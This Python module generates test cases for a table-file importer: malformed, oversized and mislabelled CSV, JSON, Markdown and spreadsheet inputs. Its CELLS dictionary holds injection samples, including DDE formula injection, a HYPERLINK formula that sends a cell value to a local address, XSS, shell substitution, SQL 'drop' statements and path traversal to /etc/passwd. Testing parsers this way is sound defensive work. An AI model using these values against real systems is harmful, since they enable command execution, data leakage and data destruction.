"""Cases of text formats, of what cells hold, and of files that aren't what their names say."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path

from case import (
    CSV,
    HEADERS,
    HTML,
    JSON,
    JSONL,
    MARKDOWN,
    ROWS,
    Case,
    Row,
    archive,
    later,
    old_workbook,
    open_document,
    parquet,
    workbook,
)
from workbooks import ANY_REFUSAL, large_rows, long_rows, long_text

ENCODING = "not text|encoding"


CELLS = {
    "formula": "=cmd|'/C calc'!A0",
    "formula, plus": "+1+cmd|'/C calc'!A0",
    "formula, minus": "-2+3",
    "formula, at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula, link": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "template": "{{ 7 * 7 }}{% raw %}",
    "template of a shell": "$(touch /tmp/x) `id` ${HOME}",
    "SQL": "'; drop table marts.dim_companies; --",
    "SQL, quoted": '"; drop schema marts cascade; --',
    "right-to-left override": "Acme\u202egpj.exe",
    "control characters": "A\x01\x02\x07\x08\x1fB",
    "escape sequence": "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "emoji and joiners": "👩\u200d👩\u200d👧 \U0001f9d1\U0001f3ff",
    "combining marks": "Z" + "\u0351\u0316" * 200,
    "format string": "%s%n%x{0}{__class__}",
    "path": "../../../etc/passwd",
    "noncharacters": "a\ufffe\uffff\U0010ffffb",
    "JSON": '{"__proto__": {"x": 1}}',
    "long": "x" * 100_000,
}


def cells() -> Iterator[Case]:
    """Give the cases."""
    group = "cells"
    for name, text in CELLS.items():
        row: Row = (text, "2024-01-05", "$5M")
        quoted = '"' + text.replace('"', '""') + '"'
        data = f"{','.join(HEADERS)}\n{quoted},2024-01-05,$5M\n".encode()
        refused = ENCODING if name == "control characters" else None
        yield Case(group, f"csv, {name}", "2026-11-23.csv", data, refused, [row])
        data = json.dumps([dict(zip(HEADERS, row, strict=True))]).encode()
        yield Case(group, f"json, {name}", "2026-11-23.json", data, rows=[row])
    for name in ("formula", "script", "SQL", "right-to-left override", "path"):
        cell = CELLS[name].replace("|", "\\|")
        data = MARKDOWN.replace(b"Acme", cell.encode())
        row = (cell.replace("\\|", "|"), *ROWS[0][1:])
        yield Case(group, f"md, {name}", "2026-11-23.md", data, rows=[row, *ROWS[1:]])


def csv_texts() -> Iterator[Case]:
    """Give the cases."""
    group = "csv"
    for name, data in (("nothing", b""), ("spaces", b" \n\t\r\n "), ("nulls", b"\0" * 5000)):
        for ending in ("csv", "json", "jsonl", "md", "xlsx", "ods"):
            yield Case(
                group, f"{ending} of {name}", f"2026-11-23.{ending}", data, "is empty; copy it"
            )
    yield Case(
        group,
        "only a byte order mark",
        "2026-11-23.csv",
        b"\xef\xbb\xbf",
        "nothing in it|empty|no header",
    )
    yield Case(group, "only headers", "2026-11-23.csv", CSV.splitlines()[0], rows=[])
    yield Case(
        group,
        "a null byte",
        "2026-11-23.csv",
        CSV.replace(b"Acme", b"A\0me"),
        ENCODING,
        [("A\\x00me", *ROWS[0][1:]), *ROWS[1:]],
    )
    yield Case(group, "null bytes at the end", "2026-11-23.csv", CSV + b"\0" * 4096, ENCODING, ROWS)
    random_bytes = random.Random(1).randbytes(20_000)  # noqa: S311
    yield Case(group, "random bytes", "2026-11-23.csv", random_bytes, ANY_REFUSAL)
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-32"):
        refused = None if encoding != "utf-16-le" else ENCODING
        data = CSV.decode().encode(encoding)
        yield Case(group, encoding, "2026-11-23.csv", data, refused, ROWS)
    yield Case(
        group,
        "half a character of UTF-16",
        "2026-11-23.csv",
        CSV.decode().encode("utf-16")[:-1],
        ENCODING,
        [*ROWS[:2], (*ROWS[2][:2], "undisclosed\\x0a")],
    )
    for name, end in (("CR", b"\r"), ("CR LF", b"\r\n")):
        yield Case(
            group, f"{name} ends lines", "2026-11-23.csv", CSV.replace(b"\n", end), rows=ROWS
        )
    unclosed = CSV + b'"Delta,2024,$1M\n' + b"x,2024,$1M\n" * 10_000
    whole = [*ROWS, ('"Delta', "2024", "$1M"), *[("x", "2024", "$1M")] * 10_000]
    yield Case(
        group,
        "a quotation mark never closed",
        "2026-11-23.csv",
        unclosed,
        "never closed; close it",
        whole,
    )
    for percent in (1, 30, 60, 90):
        cut = CSV[: len(CSV) * percent // 100]
        lines = [line.split(",") for line in cut.decode().splitlines()]
        rows = [tuple((*(cell or None for cell in line), None, None)[:3]) for line in lines[1:]]
        yield Case(
            "truncated",
            f"csv, {percent} % of it",
            "2026-11-23.csv",
            cut,
            "no header" if percent < 30 else None,
            rows if percent >= 30 else None,
        )
    wide = ",".join((*HEADERS, *(f"Column {i}" for i in range(4, 16_385))))
    data = f"{wide}\n".encode() + b"".join(
        b",".join([*CSV.splitlines()[1].split(b","), *[b"x"] * 16_381]) + b"\n" for _ in range(3)
    )
    yield Case("size", "csv, 16,384 columns", "2026-11-23.csv", data, rows=[ROWS[0]] * 3)
    wide_row = CSV + b"," * 1_000_000 + b"x\n"
    yield Case(
        "size",
        "csv, a row of a million cells",
        "2026-11-23.csv",
        wide_row,
        "columns|memory|longer",
        [*ROWS, (None, None, None)],
    )
    yield Case(
        "size",
        "csv, a million rows",
        "2026-11-23.csv",
        lambda path: _lines(path, 1_000_000),
        rows=lambda: large_rows(1_000_000),
        giant=True,
    )
    for ending in ("csv", "json", "md"):
        yield Case(
            "size",
            f"{ending}, one cell of 100 MB",
            f"2026-11-23.{ending}",
            later(_with_long_text, {"csv": CSV, "json": JSON, "md": MARKDOWN}[ending]),
            "cell|field|memory|longer|long|line 3 has",
            long_rows,
            giant=True,
        )
    yield Case(
        "size",
        "csv of 5 GB, all holes",
        "2026-11-23.csv",
        _holes,
        r"the file has [\d,]+ MB, of at most",
    )


def _with_long_text(good: bytes) -> bytes:
    return good.replace(b"Acme", long_text())


def _lines(path: Path, count: int) -> None:
    lines = "".join(f"{','.join(map(str, row))}\n" for row in large_rows(1000))
    with path.open("w") as file:
        file.write(CSV.decode().splitlines(keepends=True)[0])
        for _ in range(count // 1000):
            file.write(lines)


def _holes(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(5 << 30)


def json_texts() -> Iterator[Case]:
    """Give the cases."""
    group = "json"
    deep = "nested too deep|too long|a list of objects"
    for name, opened, closed in (("lists", b"[", b"]"), ("objects", b'{"a":', b"}")):
        for depth in (5_000, 1_000_000):
            data = opened * depth + b"1" + closed * depth
            yield Case(group, f"{name} {depth:,} deep", "2026-11-23.json", data, deep)
            yield Case(
                group,
                f"jsonl, {name} {depth:,} deep",
                "2026-11-23.jsonl",
                JSONL + b"\n" + data,
                deep,
            )
    nested = JSON.replace(b'"Acme"', b"[" * 100_000 + b"]" * 100_000)
    yield Case(group, "a cell 100,000 deep", "2026-11-23.json", nested, deep)
    long = JSON.replace(b'"$5M"', b"9" * 1_000_000)
    yield Case(
        group,
        "a million digits",
        "2026-11-23.json",
        long,
        "too long",
        [(*ROWS[0][:2], "9" * 1_000_000), *ROWS[1:]],
    )
    for number in ("1e400", "NaN", "-Infinity", "0.1000", "1E+2", "-0"):
        data = JSON.replace(b'"$5M"', number.encode())
        shown = [(*ROWS[0][:2], number), *ROWS[1:]]
        yield Case(
            group,
            f"the number {number}",
            "2026-11-23.json",
            data,
            "is not JSON|broken",
            shown if number != "-0" else [(*ROWS[0][:2], "0"), *ROWS[1:]],
        )
    lone = JSON.replace(b"Acme", b"\\ud800")
    yield Case(
        group,
        "half a surrogate pair",
        "2026-11-23.json",
        lone,
        "character is broken",
        [("\ufffd", *ROWS[0][1:]), *ROWS[1:]],
    )
    null = JSON.replace(b"Acme", b"A\\u0000me")
    yield Case(
        group, "an escaped null", "2026-11-23.json", null, rows=[("A\0me", *ROWS[0][1:]), *ROWS[1:]]
    )
    for name, text in {
        "a number": b"1",
        "a text": b'"x"',
        "an empty list": b"[]",
        "a list of lists": b"[[1, 2]]",
        "a list of nulls": b"[null, null]",
        "empty objects": b"[{}, {}]",
        "a key only": b'{"a"',
        "no JSON": b"<html>",
        "two documents": b"[1] [2]",
    }.items():
        yield Case(group, name, "2026-11-23.json", text, ANY_REFUSAL)
    keys = json.dumps(
        [
            {**dict(zip(HEADERS, row, strict=True)), f"k{i}": i}
            for i in range(3000)
            for row in ROWS[:1]
        ]
    )
    yield Case(group, "3,000 keys", "2026-11-23.json", keys.encode(), rows=[ROWS[0]] * 3000)
    inner = {**{f"k{i}": i for i in range(3000)}, "rounds": [{"a": 1}] * 10_000}
    yield Case(
        group, "rows in a wide row", "2026-11-23.json", json.dumps(inner).encode(), ANY_REFUSAL
    )
    twice = JSON.replace(b'"Company": "Acme"', b'"Company": "X", "Company": "Acme"')
    yield Case(group, "a key twice", "2026-11-23.json", twice, "twice", ROWS)
    for data, ending in ((JSON, "json"), (JSONL, "jsonl")):
        for percent in (30, 60, 99):
            cut = data[: len(data) * percent // 100]
            yield Case(
                "truncated",
                f"{ending}, {percent} % of it",
                f"2026-11-23.{ending}",
                cut,
                "is not JSON|too long|broken",
            )


def markdown_texts() -> Iterator[Case]:
    """Give the cases."""
    group = "md"
    for name, text in {
        "100,000 quotes deep": b">" * 100_000,
        "100,000 brackets": b"[" * 100_000 + MARKDOWN,
        "100,000 stars": b"*a " * 100_000,
        "100,000 backticks": b"`" * 100_000,
        "a list 2,000 deep": b"".join(b" " * 2 * i + b"- a\n" for i in range(2_000)),
        "a comment without end": b"<!--" + b" x" * 100_000,
        "100,000 lines of pipes": b"|\n" * 100_000,
    }.items():
        yield Case(group, name, "2026-11-23.md", text, "no table|no header|longer than")
    wide = b"|".join([b"a"] * 20_000)
    data = wide + b"\n" + b"|".join([b"-"] * 20_000) + b"\n" + wide + b"\n"
    yield Case(group, "20,000 columns", "2026-11-23.md", data, "20,000 columns, of at most")
    rows = MARKDOWN + b"\n" + MARKDOWN.splitlines()[2].join([b"", b"\n"]) * 20_000
    yield Case(group, "20,000 rows", "2026-11-23.md", rows, rows=[*ROWS, *[ROWS[0]] * 20_000])


def wrong_endings() -> Iterator[Case]:
    """Give the cases."""
    group = "wrong ending"
    contents = {
        "xlsx": workbook(),
        "ods": open_document(),
        "xls": old_workbook(),
    }
    for real, data in contents.items():
        for ending in ("xlsx", "xlsm", "xlsb", "xls", "ods", "csv", "txt", "json", "md"):
            if ending != real:
                yield Case(group, f"{real} named {ending}", f"2026-11-23.{ending}", data, rows=ROWS)
    for ending in ("xlsx", "xls", "ods"):
        yield Case(group, f"csv named {ending}", f"2026-11-23.{ending}", CSV, rows=ROWS)
        tabs = CSV.replace(b",", b"\t")
        yield Case(group, f"tabs named {ending}", f"2026-11-23.{ending}", tabs, rows=ROWS)
        yield Case(
            group, f"html table named {ending}", f"2026-11-23.{ending}", HTML, "can't be read", ROWS
        )
        login = b"<!doctype html><html><body><form>Log in</form></body></html>"
        yield Case(
            group,
            f"login page named {ending}",
            f"2026-11-23.{ending}",
            login,
            "web page or XML without a table",
        )
    login = b"<!doctype html><html><body><form>Log in, please</form></body></html>"
    yield Case(group, "login page named csv", "2026-11-23.csv", login, "no header|web page")
    excel2003 = (
        b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
    )
    yield Case(group, "Excel 2003 XML named xls", "2026-11-23.xls", excel2003, "Excel 2003's XML")
    slides = archive({"ppt/presentation.xml": "<a/>"})
    document = archive({"word/document.xml": "<a/>"})
    others = {
        "a PDF": b"%PDF-1.7\n" + b"x" * 100,
        "a picture": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
        "a program": b"MZ" + b"\0" * 100,
        "a database": b"SQLite format 3\0" + b"\0" * 100,
        "a 7z archive": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
        "a document": document,
        "slides": slides,
        "a zip of csv": archive({"a.csv": CSV}),
    }
    for name, data in others.items():
        for ending in ("xlsx", "csv", "json", "md"):
            yield Case(
                group,
                f"{name} named {ending}",
                f"2026-11-23.{ending}",
                data,
                "not a table; export|not a workbook; save|this is a zip file",
            )
    yield Case(
        group, "Parquet named csv", "2026-11-23.csv", parquet(), "can't be read; save it", ROWS
    )


PARTS = (cells, csv_texts, json_texts, markdown_texts, wrong_endings)
